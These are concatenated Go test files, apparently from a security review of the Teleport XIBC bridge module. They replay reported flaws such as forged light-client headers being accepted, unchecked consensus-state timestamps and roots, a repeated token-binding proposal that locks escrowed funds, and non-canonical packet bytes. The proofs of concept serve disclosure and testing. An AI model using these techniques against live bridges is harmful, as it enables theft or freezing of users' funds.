	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/app"
	ethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

const zzChain1 = "ethreview"

// zzHeader1 forges a header of a rinkeby-numbered (chain id 4) client: for that chain id the client checks neither
// the seal nor the difficulty, so every well-linked header with a constant base fee is accepted.
func zzHeader1(parent *ethtypes.Header, rev, number, ts uint64, salt byte) ethtypes.Header {
	h := ethtypes.Header{
		UncleHash:   make([]byte, 32),
		Coinbase:    make([]byte, 20),
		Root:        append(make([]byte, 30), salt, byte(number)),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(rev, number),
		GasLimit:    10_000_000,
		GasUsed:     5_000_000,
		Time:        ts,
		Extra:       []byte{salt},
		MixDigest:   make([]byte, 32),
		Nonce:       0,
		BaseFee:     big.NewInt(1000).Bytes(),
	}
	if parent != nil {
		h.ParentHash = parent.Hash().Bytes()
	} else {
		h.ParentHash = make([]byte, 32)
	}
	return h
}

func zzClient1(h ethtypes.Header, tp uint64) (*ethtypes.ClientState, *ethtypes.ConsensusState) {
	cs := &ethtypes.ClientState{Header: h, ChainId: 4, ContractAddress: []byte{1}, TrustingPeriod: tp, BlockDelay: 1}
	cons := &ethtypes.ConsensusState{Timestamp: h.Time, Height: h.Height, Root: h.ToEthHeader().Root.Bytes()}
	return cs, cons
}

func zzSetup1(t0 int64) (*app.Teleport, sdk.Context) {
	a := app.Setup(false, nil)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Time: time.Unix(t0, 0)})
	return a, ctx
}

func zzStatus1(a *app.Teleport, ctx sdk.Context) exported.Status {
	cs, _ := a.XIBCKeeper.ClientKeeper.GetClientState(ctx, zzChain1)
	return cs.Status(ctx, a.XIBCKeeper.ClientKeeper.ClientStore(ctx, zzChain1), a.AppCodec())
}

// 24ade25: the check only refuses a header that is ALREADY older than the trusting period. A stored ancestor that
// is one second short of it is still accepted, becomes the head, and the client is Expired one second later
// although the real head is fresh: the valid child of the real head is refused.
func TestZZReview24ade25AncestorJustInsideTrustingPeriod(t *testing.T) {
	const t0, tp = int64(1_700_000_000), uint64(1000)
	a, ctx := zzSetup1(t0)
	k := a.XIBCKeeper.ClientKeeper

	h100 := zzHeader1(nil, 0, 100, uint64(t0), 0)
	cs, cons := zzClient1(h100, tp)
	if err := k.CreateClient(ctx, zzChain1, cs, cons); err != nil {
		t.Fatalf("create: %v", err)
	}
	h101 := zzHeader1(&h100, 0, 101, uint64(t0)+10, 0)
	h102 := zzHeader1(&h101, 0, 102, uint64(t0)+990, 0) // the real head, fresh
	ctx = ctx.WithBlockTime(time.Unix(t0+995, 0))
	for _, h := range []ethtypes.Header{h101, h102} {
		h := h
		if err := k.UpdateClient(ctx, zzChain1, &h); err != nil {
			t.Fatalf("update %s: %v", h.Height, err)
		}
	}
	// block time t0+1010: h101 (time t0+10) is exactly tp old, i.e. not "older than" the trusting period
	ctx = ctx.WithBlockTime(time.Unix(t0+1010, 0))
	before := zzStatus1(a, ctx)
	again := h101
	errResubmit := k.UpdateClient(ctx, zzChain1, &again)
	// one second later
	ctx = ctx.WithBlockTime(time.Unix(t0+1011, 0))
	after := zzStatus1(a, ctx)
	h103 := zzHeader1(&h102, 0, 103, uint64(t0)+1005, 0)
	errChild := k.UpdateClient(ctx, zzChain1, &h103)

	if before == exported.Active && errResubmit == nil && after == exported.Expired && errChild != nil {
		fmt.Printf("REPLAY-CONFIRMED: 24ade25 status before=%s, re-submitted ancestor 0-101 accepted, one second later status=%s (real head 0-102 would expire only at t0+1990); child of the real head refused: %v\n", before, after, errChild)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: 24ade25 before=%s resubmit=%v after=%s child=%v\n", before, errResubmit, after, errChild)
	}
}

