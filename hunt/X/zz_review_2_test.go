// package directory: x/xibc/clients/light-clients/eth/types
//
// Review replay 2: bfd5e82 (ETH: the timestamp of the installed consensus state is not compared with the header).
// Self-contained (helpers carry the suffix 2, so the review files can be dropped into the package together).
// Run: go test -vet=off -count=1 -run TestZZReviewBfd5e82 -v ./x/xibc/clients/light-clients/eth/types/
package types_test

import (
	"fmt"
	"math/big"
	"testing"
	"time"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/app"
	ethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

const zzChain2 = "ethreview"

// zzHeader2 forges a header of a rinkeby-numbered (chain id 4) client: for that chain id the client checks neither
// the seal nor the difficulty, so every well-linked header with a constant base fee is accepted.
func zzHeader2(parent *ethtypes.Header, rev, number, ts uint64, salt byte) ethtypes.Header {
	h := ethtypes.Header{
		UncleHash:   make([]byte, 32),
		Coinbase:    make([]byte, 20),
		Root:        append(make([]byte, 30), salt, byte(number)),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(rev, number),
		GasLimit:    10_000_000,
		GasUsed:     5_000_000,
		Time:        ts,
		Extra:       []byte{salt},
		MixDigest:   make([]byte, 32),
		Nonce:       0,
		BaseFee:     big.NewInt(1000).Bytes(),
	}
	if parent != nil {
		h.ParentHash = parent.Hash().Bytes()
	} else {
		h.ParentHash = make([]byte, 32)
	}
	return h
}

func zzClient2(h ethtypes.Header, tp uint64) (*ethtypes.ClientState, *ethtypes.ConsensusState) {
	cs := &ethtypes.ClientState{Header: h, ChainId: 4, ContractAddress: []byte{1}, TrustingPeriod: tp, BlockDelay: 1}
	cons := &ethtypes.ConsensusState{Timestamp: h.Time, Height: h.Height, Root: h.ToEthHeader().Root.Bytes()}
	return cs, cons
}

func zzSetup2(t0 int64) (*app.Teleport, sdk.Context) {
	a := app.Setup(false, nil)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Time: time.Unix(t0, 0)})
	return a, ctx
}

func zzStatus2(a *app.Teleport, ctx sdk.Context) exported.Status {
	cs, _ := a.XIBCKeeper.ClientKeeper.GetClientState(ctx, zzChain2)
	return cs.Status(ctx, a.XIBCKeeper.ClientKeeper.ClientStore(ctx, zzChain2), a.AppCodec())
}

// bfd5e82: the consensus state is compared with the header's root and height, not with its time. The timestamp is
// what Status and the pruning step read.
func TestZZReviewBfd5e82TimestampNotChecked(t *testing.T) {
	const t0, tp = int64(1_700_000_000), uint64(1000)
	a, ctx := zzSetup2(t0)
	k := a.XIBCKeeper.ClientKeeper

	h100 := zzHeader2(nil, 0, 100, uint64(t0), 0)
	cs, cons := zzClient2(h100, tp)
	cons.Timestamp = 1 // not the header's time
	errCreate := k.CreateClient(ctx, zzChain2, cs, cons)
	var st exported.Status
	var errUpd error
	if errCreate == nil {
		st = zzStatus2(a, ctx)
		h101 := zzHeader2(&h100, 0, 101, uint64(t0)+1, 0)
		errUpd = k.UpdateClient(ctx, zzChain2, &h101)
	}
	// second variant: a timestamp far in the future keeps a dead anchor Active for ever
	a2, ctx2 := zzSetup2(t0)
	cs2, cons2 := zzClient2(h100, tp)
	cons2.Timestamp = uint64(t0) + 1_000_000_000
	errCreate2 := a2.XIBCKeeper.ClientKeeper.CreateClient(ctx2, zzChain2, cs2, cons2)
	ctx2 = ctx2.WithBlockTime(time.Unix(t0+int64(tp)*100, 0))
	var st2 exported.Status
	if errCreate2 == nil {
		st2 = zzStatus2(a2, ctx2)
	}
	if errCreate == nil && st == exported.Expired && errUpd != nil && errCreate2 == nil && st2 == exported.Active {
		fmt.Printf("REPLAY-CONFIRMED: bfd5e82 consensus state with timestamp 1 (header time %d) installed, status=%s, first update refused: %v; with timestamp header+1e9 the client is still %s 100 trusting periods after its header\n", t0, st, errUpd, st2)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: bfd5e82 create=%v status=%s upd=%v create2=%v status2=%s\n", errCreate, st, errUpd, errCreate2, st2)
	}
}

