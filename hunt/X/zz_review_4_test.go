// package directory: x/xibc/clients/light-clients/bsc/types
//
// Review replay 4: bfd5e82, sibling client type: the BSC client still ignores the consensus state it is installed
// with (root, height and timestamp are stored as given).
// Uses the type GenesisState and the testdata of the package's own update_test.go.
// Run: go test -vet=off -count=1 -run TestZZReviewBscInitialConsensusState -v ./x/xibc/clients/light-clients/bsc/types/
package types_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io/ioutil"
	"testing"
	"time"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	"github.com/teleport-network/teleport/app"
	xibcbsctypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/bsc/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
)

func TestZZReviewBscInitialConsensusState(t *testing.T) {
	var genesisState GenesisState
	bz, _ := ioutil.ReadFile("testdata/genesis_state.json")
	if err := json.Unmarshal(bz, &genesisState); err != nil {
		t.Fatal(err)
	}
	header := genesisState.GenesisHeader
	validators, err := xibcbsctypes.ParseValidators(genesisState.GenesisValidatorHeader.Extra)
	if err != nil {
		t.Fatal(err)
	}
	a := app.Setup(false, nil)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Time: time.Now()})
	k := a.XIBCKeeper.ClientKeeper

	cs := &xibcbsctypes.ClientState{
		Header: header.ToHeader(), ChainId: 56, Epoch: 200, BlockInteval: 3, Validators: validators,
		ContractAddress: []byte("0x00"), TrustingPeriod: 999999999,
	}
	height := clienttypes.NewHeight(0, header.Number.Uint64())
	foreignRoot := bytes.Repeat([]byte{0xff}, 32)
	cons := &xibcbsctypes.ConsensusState{
		Timestamp: uint64(time.Now().Unix()) + 1_000_000_000, // not the header's time
		Height:    clienttypes.NewHeight(7, 1),                // not the header's height
		Root:      foreignRoot,                               // not the header's state root
	}
	errCreate := k.CreateClient(ctx, "bsc", cs, cons)
	stored, found := k.GetClientConsensusState(ctx, "bsc", height)
	if errCreate == nil && found && bytes.Equal(stored.GetRoot(), foreignRoot) && !bytes.Equal(header.Root[:], foreignRoot) {
		fmt.Printf("REPLAY-CONFIRMED: bfd5e82 sibling: BSC client installed at %s with a consensus state of root %x (header root %x), timestamp %d (header time %d): proofs at the anchor height are checked against a root that is not the anchor block's\n",
			height, stored.GetRoot()[:4], header.Root[:4], stored.GetTimestamp(), header.Time)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: bfd5e82 sibling: create=%v found=%v\n", errCreate, found)
	}
}
