// package directory: x/xibc/clients/light-clients/eth/types
//
// Review replay 3: c4ea599 (ETH: an upgrade may change the revision number and re-create the shared header-index entry).
// Self-contained (helpers carry the suffix 3, so the review files can be dropped into the package together).
// Run: go test -vet=off -count=1 -run TestZZReviewC4ea599 -v ./x/xibc/clients/light-clients/eth/types/
package types_test

import (
	"fmt"
	"math/big"
	"testing"
	"time"

	tmproto "github.com/tendermint/tendermint/proto/tendermint/types"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/teleport-network/teleport/app"
	ethtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/eth/types"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	"github.com/teleport-network/teleport/x/xibc/exported"
)

const zzChain3 = "ethreview"

// zzHeader3 forges a header of a rinkeby-numbered (chain id 4) client: for that chain id the client checks neither
// the seal nor the difficulty, so every well-linked header with a constant base fee is accepted.
func zzHeader3(parent *ethtypes.Header, rev, number, ts uint64, salt byte) ethtypes.Header {
	h := ethtypes.Header{
		UncleHash:   make([]byte, 32),
		Coinbase:    make([]byte, 20),
		Root:        append(make([]byte, 30), salt, byte(number)),
		TxHash:      make([]byte, 32),
		ReceiptHash: make([]byte, 32),
		Bloom:       make([]byte, 256),
		Difficulty:  big.NewInt(2).Bytes(),
		Height:      clienttypes.NewHeight(rev, number),
		GasLimit:    10_000_000,
		GasUsed:     5_000_000,
		Time:        ts,
		Extra:       []byte{salt},
		MixDigest:   make([]byte, 32),
		Nonce:       0,
		BaseFee:     big.NewInt(1000).Bytes(),
	}
	if parent != nil {
		h.ParentHash = parent.Hash().Bytes()
	} else {
		h.ParentHash = make([]byte, 32)
	}
	return h
}

func zzClient3(h ethtypes.Header, tp uint64) (*ethtypes.ClientState, *ethtypes.ConsensusState) {
	cs := &ethtypes.ClientState{Header: h, ChainId: 4, ContractAddress: []byte{1}, TrustingPeriod: tp, BlockDelay: 1}
	cons := &ethtypes.ConsensusState{Timestamp: h.Time, Height: h.Height, Root: h.ToEthHeader().Root.Bytes()}
	return cs, cons
}

func zzSetup3(t0 int64) (*app.Teleport, sdk.Context) {
	a := app.Setup(false, nil)
	ctx := a.BaseApp.NewContext(false, tmproto.Header{Time: time.Unix(t0, 0)})
	return a, ctx
}

func zzStatus3(a *app.Teleport, ctx sdk.Context) exported.Status {
	cs, _ := a.XIBCKeeper.ClientKeeper.GetClientState(ctx, zzChain3)
	return cs.Status(ctx, a.XIBCKeeper.ClientKeeper.ClientStore(ctx, zzChain3), a.AppCodec())
}

// c4ea599: the revision is pinned to the one of the client's header, but an upgrade may change that one. After an
// upgrade that re-anchors the client at a stored block under another revision number, the two consensus states of
// that block share one header index entry again: pruning the first makes pruning the second fail on every update.
func TestZZReviewC4ea599RevisionChangedByUpgrade(t *testing.T) {
	const t0, tp = int64(1_700_000_000), uint64(1000)
	a, ctx := zzSetup3(t0)
	k := a.XIBCKeeper.ClientKeeper

	h100 := zzHeader3(nil, 0, 100, uint64(t0), 0)
	cs, cons := zzClient3(h100, tp)
	if err := k.CreateClient(ctx, zzChain3, cs, cons); err != nil {
		t.Fatalf("create: %v", err)
	}
	ctx = ctx.WithBlockTime(time.Unix(t0+30, 0))
	h101 := zzHeader3(&h100, 0, 101, uint64(t0)+10, 0)
	h102 := zzHeader3(&h101, 0, 102, uint64(t0)+20, 0)
	for _, h := range []ethtypes.Header{h101, h102} {
		h := h
		if err := k.UpdateClient(ctx, zzChain3, &h); err != nil {
			t.Fatalf("update %s: %v", h.Height, err)
		}
	}
	// governance upgrade: same block 102, filed under revision 1 (for instance with a new contract address)
	up := h102
	up.Height = clienttypes.NewHeight(1, 102)
	ucs, ucons := zzClient3(up, tp)
	if err := k.UpgradeClient(ctx, zzChain3, ucs, ucons); err != nil {
		fmt.Printf("REPLAY-NOT-REPRODUCED: c4ea599 upgrade refused: %v\n", err)
		return
	}
	// the chain goes on under revision 1
	prev := up
	var firstErr error
	var failedAt string
	times := []uint64{600, 900, 1015, 1025, 1030, 1040, 1050}
	for i, dt := range times {
		h := zzHeader3(&prev, 1, 103+uint64(i), uint64(t0)+dt, 0)
		ctx = ctx.WithBlockTime(time.Unix(t0+int64(dt)+1, 0))
		if err := k.UpdateClient(ctx, zzChain3, &h); err != nil {
			firstErr, failedAt = err, h.Height.String()
			break
		}
		prev = h
	}
	if firstErr != nil {
		fmt.Printf("REPLAY-CONFIRMED: c4ea599 after an upgrade to 1-102 (block 102 already stored as 0-102) the update to %s fails while the client is %s: %v\n", failedAt, zzStatus3(a, ctx), firstErr)
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: c4ea599 all updates after the revision-changing upgrade passed\n")
	}
}
