// package directory: x/xibc   (package xibc_test; uses the XIBCTestSuite helpers of x/xibc/integration_test.go)
package xibc_test

import (
	"fmt"
	"math/big"
	"strings"
	"testing"

	sdk "github.com/cosmos/cosmos-sdk/types"

	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/tharsis/ethermint/server/config"
	"github.com/tharsis/ethermint/tests"
	evm "github.com/tharsis/ethermint/x/evm/types"

	endpointcontract "github.com/teleport-network/teleport/syscontracts/xibc_endpoint"
	"github.com/teleport-network/teleport/x/aggregate"
	aggregatetypes "github.com/teleport-network/teleport/x/aggregate/types"
	packettypes "github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// Finding 1: a RegisterERC20TraceProposal for a token that is already bound (even one that repeats the
// registered values verbatim) passes the proposal's validation and the aggregate keeper's
// RegisterERC20Trace, and wipes the destination's record of what it has minted for the origin chain
// (bindings[token/chain].amount -> 0) while the minted tokens stay in circulation and the source keeps
// the escrow: the minted tokens can never be sent back, the escrow can never be released.
func TestFinding1RebindWipesMintedAmount(t *testing.T) {
	suite := new(XIBCTestSuite)
	suite.SetT(t)
	suite.SetupTest()

	verdict := "REPLAY-NOT-REPRODUCED: the test did not run to its end"
	defer func() {
		if r := recover(); r != nil {
			verdict = fmt.Sprintf("REPLAY-NOT-REPRODUCED: the scenario could not be set up (%v)", r)
		}
		fmt.Println(verdict)
	}()

	pathAToB := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(pathAToB)

	chainAERC20 := suite.DeployERC20ByCrossChain(suite.chainA)
	chainBERC20 := suite.DeployERC20ByCrossChain(suite.chainB)
	suite.GrantERC20MintRoleByCrossChain(suite.chainA, chainAERC20, suite.chainA.SenderAddress)
	suite.MintERC20Token(suite.chainA, suite.chainA.SenderAddress, chainAERC20, big.NewInt(10000))

	// governance on B: bind chainBERC20 to (chainA, chainAERC20), through the proposal's own validation and handler
	proposal := aggregatetypes.NewRegisterERC20TraceProposal(
		"bind", "bind the token", chainBERC20.String(), strings.ToLower(chainAERC20.String()), suite.chainA.ChainID, 0,
	)
	handler := aggregate.NewAggregateProposalHandler(suite.chainB.App.AggregateKeeper)
	if err := proposal.ValidateBasic(); err != nil {
		panic(err)
	}
	if err := handler(suite.chainB.GetContext(), proposal); err != nil {
		panic(err)
	}

	// a user bridges 1000 from A to B: escrowed on A, minted on B, acknowledged with success
	const amount = 1000
	crossChainData := packettypes.CrossChainData{
		DstChain:        suite.chainB.ChainID,
		TokenAddress:    chainAERC20,
		Receiver:        strings.ToLower(suite.chainB.SenderAddress.String()),
		Amount:          big.NewInt(amount),
		CallData:        []byte(""),
		CallbackAddress: common.BigToAddress(big.NewInt(0)),
	}
	fee := packettypes.Fee{TokenAddress: chainAERC20, Amount: big.NewInt(0)}
	suite.Approve(suite.chainA, chainAERC20, endpointcontract.EndpointContractAddress, big.NewInt(amount))
	suite.CrossChainCall(suite.chainA, crossChainData, fee)

	transferData := packettypes.TransferData{
		Receiver: crossChainData.Receiver,
		Amount:   common.LeftPadBytes(big.NewInt(amount).Bytes(), 32),
		Token:    strings.ToLower(chainAERC20.String()),
	}
	transferDataAbi, err := transferData.ABIPack()
	if err != nil {
		panic(err)
	}
	packet := packettypes.Packet{
		SrcChain: suite.chainA.ChainID, DstChain: suite.chainB.ChainID, Sequence: 1,
		Sender:          strings.ToLower(suite.chainA.SenderAddress.String()),
		TransferData:    transferDataAbi,
		CallData:        []byte(""),
		CallbackAddress: common.BigToAddress(big.NewInt(0)).String(),
	}
	ackData, err := packettypes.NewAcknowledgement(0, []byte(""), "", strings.ToLower(suite.chainB.SenderAcc.String()), 0).ABIPack()
	if err != nil {
		panic(err)
	}
	if err := pathAToB.RelayPacket(packet, ackData); err != nil {
		panic(err)
	}

	escrowA := suite.OutTokens(suite.chainA, chainAERC20, suite.chainB.ChainID)
	mintedBefore := suite.Bindings(suite.chainB, chainBERC20, suite.chainA.ChainID).Amount
	heldBefore := suite.ERC20Balance(suite.chainB, chainBERC20, suite.chainB.SenderAddress)
	if escrowA.Int64() != amount || mintedBefore.Int64() != amount || heldBefore.Int64() != amount {
		panic(fmt.Sprintf("unexpected state after the transfer: escrow %s minted %s held %s", escrowA, mintedBefore, heldBefore))
	}

	// the transaction with which the holder sends the tokens back to A
	back := packettypes.CrossChainData{
		DstChain:        suite.chainA.ChainID,
		TokenAddress:    chainBERC20,
		Receiver:        strings.ToLower(suite.chainA.SenderAddress.String()),
		Amount:          big.NewInt(amount),
		CallData:        []byte(""),
		CallbackAddress: common.BigToAddress(big.NewInt(0)),
	}
	suite.Approve(suite.chainB, chainBERC20, endpointcontract.EndpointContractAddress, big.NewInt(amount))
	data, err := endpointcontract.EndpointContract.ABI.Pack("crossChainCall", back, packettypes.Fee{TokenAddress: chainBERC20, Amount: big.NewInt(0)})
	if err != nil {
		panic(err)
	}
	// control: before the repeated proposal the send-back succeeds (run on a discarded branch of the state)
	if ctlErr := finding1SendTxOn(suite.chainB, func() sdk.Context { c, _ := suite.chainB.GetContext().CacheContext(); return c }(), endpointcontract.EndpointContractAddress, data); ctlErr != "" {
		panic("control send-back failed before the repeated proposal: " + ctlErr)
	}

	// governance on B: the very same proposal once more (validated, then executed by the handler)
	if err := proposal.ValidateBasic(); err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: the repeated proposal is refused by its validation: " + err.Error()
		return
	}
	if err := handler(suite.chainB.GetContext(), proposal); err != nil {
		verdict = "REPLAY-NOT-REPRODUCED: re-binding a token that is already bound is refused: " + err.Error()
		return
	}

	mintedAfter := suite.Bindings(suite.chainB, chainBERC20, suite.chainA.ChainID).Amount
	heldAfter := suite.ERC20Balance(suite.chainB, chainBERC20, suite.chainB.SenderAddress)
	escrowAfter := suite.OutTokens(suite.chainA, chainAERC20, suite.chainB.ChainID)

	// the holder tries to send the tokens back to A
	vmErr := finding1SendTx(suite, suite.chainB, endpointcontract.EndpointContractAddress, data)

	if mintedAfter.Sign() == 0 && heldAfter.Int64() == amount && escrowAfter.Int64() == amount && vmErr != "" {
		verdict = fmt.Sprintf(
			"REPLAY-CONFIRMED: a repeated RegisterERC20TraceProposal for an already bound token is accepted and resets the destination's minted record from %s to %s, while %s minted tokens stay with the holder and the source keeps %s in escrow; sending the tokens back now fails (%q), so the escrow can never be released",
			mintedBefore, mintedAfter, heldAfter, escrowAfter, vmErr,
		)
		return
	}
	verdict = fmt.Sprintf(
		"REPLAY-NOT-REPRODUCED: after the repeated proposal: minted record %s, held %s, escrow %s, send-back error %q",
		mintedAfter, heldAfter, escrowAfter, vmErr,
	)
}

// finding1SendTx delivers an EVM transaction of the chain's sender and returns the VM error (empty on success).
func finding1SendTx(suite *XIBCTestSuite, chain *xibctesting.TestChain, to common.Address, data []byte) string {
	return finding1SendTxOn(chain, chain.GetContext(), to, data)
}

func finding1SendTxOn(chain *xibctesting.TestChain, sdkCtx sdk.Context, to common.Address, data []byte) string {
	ctx := sdk.WrapSDKContext(sdkCtx)
	chainID := chain.App.EvmKeeper.ChainID()
	nonce := chain.App.EvmKeeper.GetNonce(chain.GetContext(), chain.SenderAddress)
	tx := evm.NewTx(chainID, nonce, &to, big.NewInt(0), config.DefaultGasCap, big.NewInt(0), big.NewInt(0), big.NewInt(0), data, &ethtypes.AccessList{})
	tx.From = chain.SenderAddress.Hex()
	if err := tx.Sign(ethtypes.LatestSignerForChainID(chainID), tests.NewSigner(chain.SenderPrivKey)); err != nil {
		panic(err)
	}
	rsp, err := chain.App.EvmKeeper.EthereumTx(ctx, tx)
	if err != nil {
		return err.Error()
	}
	return rsp.VmError
}
