// package directory: x/xibc/core/packet/keeper   (package keeper_test; run with: go test ./x/xibc/core/packet/keeper/ -run TestKeeperTestSuite -testify.m TestZZFinding1NonCanonicalPacketBytes -v)
package keeper_test

import (
	"bytes"
	"fmt"

	"github.com/teleport-network/teleport/x/xibc/core/host"
	"github.com/teleport-network/teleport/x/xibc/core/packet/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// BORDERLINE observation (C19, "packet encoding is canonical"): the packet decoder accepts byte strings
// that are not the canonical ABI encoding of the packet (trailing bytes, dirty padding). MsgRecvPacket
// passes ValidateBasic and Keeper.RecvPacket with such bytes, and the chain re-publishes the
// non-canonical bytes verbatim in EventRecvPacket.Packet, while the same transaction's
// EventWriteAck.Packet carries the canonical re-encoding: two different byte strings for one packet.
func (suite *KeeperTestSuite) TestZZFinding1NonCanonicalPacketBytes() {
	suite.SetupTest()
	path := xibctesting.NewPath(suite.chainA, suite.chainB)
	suite.coordinator.SetupClients(path)

	packet := types.NewPacket(path.EndpointA.ChainName, path.EndpointB.ChainName, 1, "sender", []byte("transfer"), []byte("call"), "", 0)
	suite.Require().NoError(path.EndpointA.SendPacket(packet))

	packetKey := host.PacketCommitmentKey(packet.GetSrcChain(), packet.GetDstChain(), packet.GetSequence())
	proof, proofHeight := suite.chainA.QueryProof(packetKey)

	canonical, err := packet.ABIPack()
	suite.Require().NoError(err)

	// non-canonical variant: 32 trailing bytes and a dirty padding byte after the string "sender"
	mutated := append(append([]byte{}, canonical...), bytes.Repeat([]byte{0xAB}, 32)...)
	idx := bytes.Index(mutated, []byte("sender"))
	mutated[idx+10] = 0xCD

	msg := &types.MsgRecvPacket{
		Packet:          mutated,
		ProofCommitment: proof,
		ProofHeight:     proofHeight,
		Signer:          suite.chainB.SenderAcc.String(),
	}
	vbErr := msg.ValidateBasic()

	ctx := suite.chainB.GetContext()
	recvErr := suite.chainB.App.XIBCKeeper.PacketKeeper.RecvPacket(ctx, msg)
	_, stored := suite.chainB.App.XIBCKeeper.PacketKeeper.GetPacketReceipt(ctx, packet.GetSrcChain(), packet.GetDstChain(), 1)

	var decoded types.Packet
	decErr := decoded.ABIDecode(mutated)
	reencoded, _ := decoded.ABIPack()

	if vbErr == nil && recvErr == nil && stored && decErr == nil && !bytes.Equal(mutated, canonical) && bytes.Equal(reencoded, canonical) {
		fmt.Printf("REPLAY-CONFIRMED: a %d-byte non-canonical encoding (canonical: %d bytes; trailing garbage + dirty padding) of packet %s/%s/1 passed MsgRecvPacket.ValidateBasic and Keeper.RecvPacket (receipt stored); decode(mutated) re-encodes to the canonical bytes, so two distinct byte strings are accepted for one packet and the non-canonical one is echoed in EventRecvPacket.Packet\n",
			len(mutated), len(canonical), packet.GetSrcChain(), packet.GetDstChain())
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: non-canonical packet bytes were refused (ValidateBasic err=%v, RecvPacket err=%v, receipt=%v, decode err=%v)\n", vbErr, recvErr, stored, decErr)
	}
}
