// package directory: x/xibc/core/client (package client_test)
package client_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	xibctmtypes "github.com/teleport-network/teleport/x/xibc/clients/light-clients/tendermint/types"
	client "github.com/teleport-network/teleport/x/xibc/core/client"
	clienttypes "github.com/teleport-network/teleport/x/xibc/core/client/types"
	commitmenttypes "github.com/teleport-network/teleport/x/xibc/core/commitment/types"
	xibctesting "github.com/teleport-network/teleport/x/xibc/testing"
)

// The create / upgrade / toggle proposals validate the client state only: the consensus state of the
// proposal is never passed through its own ValidateBasic (neither in the proposals' ValidateBasic nor
// in the keeper nor in Initialize/UpgradeState). A Tendermint consensus state that the module itself
// considers invalid (empty root, a 4-byte next-validators hash) is installed by a successful create
// and by a successful upgrade; the exported genesis of the module is then refused by the module's own
// genesis validation, and no header can ever be verified against the installed state.
func TestZZFinding5ConsensusStateNeverValidated(t *testing.T) {
	coordinator := xibctesting.NewCoordinator(t, 2)
	chainA := coordinator.GetChain(xibctesting.GetChainID(0))
	k := chainA.App.XIBCKeeper.ClientKeeper
	handler := client.NewClientProposalHandler(k)

	tmState := xibctmtypes.NewClientState(
		"gaiahub-0", xibctmtypes.DefaultTrustLevel, time.Hour*24*14, time.Hour*24*21, time.Second*10,
		clienttypes.NewHeight(0, 5), commitmenttypes.GetSDKSpecs(), xibctesting.Prefix, 0,
	)
	good := xibctmtypes.NewConsensusState(chainA.GetContext().BlockTime(), []byte("apphash"), make([]byte, 32))
	bad := xibctmtypes.NewConsensusState(chainA.GetContext().BlockTime(), nil, []byte("hash"))
	if bad.ValidateBasic() == nil || good.ValidateBasic() != nil {
		t.Fatal("set-up: expected the bad consensus state to be invalid and the good one valid")
	}

	var observed []string
	confirmed := 0

	// create
	{
		ctx, _ := chainA.GetContext().CacheContext()
		p, _ := clienttypes.NewCreateClientProposal("t", "d", "tm-create", tmState, bad)
		if err := p.ValidateBasic(); err != nil {
			observed = append(observed, "create: refused by ValidateBasic")
		} else if err := handler(ctx, p); err != nil {
			observed = append(observed, "create: refused by the handler")
		} else {
			err := client.ExportGenesis(ctx, k).Validate()
			observed = append(observed, fmt.Sprintf("create with consensus state {root: empty, next validators hash: 4 bytes} succeeded; validation of the exported genesis: %v", err))
			if err != nil {
				confirmed++
			}
		}
	}
	// upgrade of a sound client
	{
		ctx, _ := chainA.GetContext().CacheContext()
		if err := k.CreateClient(ctx, "tm-upgrade", tmState, good); err != nil {
			t.Fatal(err)
		}
		if err := client.ExportGenesis(ctx, k).Validate(); err != nil {
			t.Fatalf("set-up: genesis invalid before the upgrade: %v", err)
		}
		p, _ := clienttypes.NewUpgradeClientProposal("t", "d", "tm-upgrade", tmState, bad)
		if err := p.ValidateBasic(); err != nil {
			observed = append(observed, "upgrade: refused by ValidateBasic")
		} else if err := handler(ctx, p); err != nil {
			observed = append(observed, "upgrade: refused by the handler")
		} else {
			err := client.ExportGenesis(ctx, k).Validate()
			observed = append(observed, fmt.Sprintf("upgrade with the same consensus state succeeded; validation of the exported genesis: %v", err))
			if err != nil {
				confirmed++
			}
		}
	}

	if confirmed > 0 {
		fmt.Printf("REPLAY-CONFIRMED: %s\n", strings.Join(observed, "; "))
	} else {
		fmt.Printf("REPLAY-NOT-REPRODUCED: %s\n", strings.Join(observed, "; "))
	}
}
