// package directory: x/xibc/core/client (package client_test)
package client_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	sdk "github.com/cosmos/cosmos-sdk/types"
